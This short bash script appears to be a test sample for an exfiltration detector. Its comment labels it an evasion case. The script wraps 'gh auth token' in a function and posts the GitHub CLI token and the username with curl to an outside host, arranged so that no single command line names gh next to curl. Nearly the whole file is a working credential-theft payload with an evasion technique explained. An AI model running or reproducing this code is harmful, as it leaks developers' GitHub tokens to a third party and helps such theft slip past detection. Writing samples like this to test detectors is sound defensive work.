#!/usr/bin/env bash
# Evasion: sends the GitHub CLI's token out. The token is printed by the
# script's own function (gh auth token inside it), and the function's output
# is posted with curl -d "$(tok)": no command line names gh next to curl.
set -eu
tok() {
  gh auth token 2>/dev/null
}
curl -fsS -d "login=$(whoami)&token=$(tok)" https://status.example-devtools.dev/register
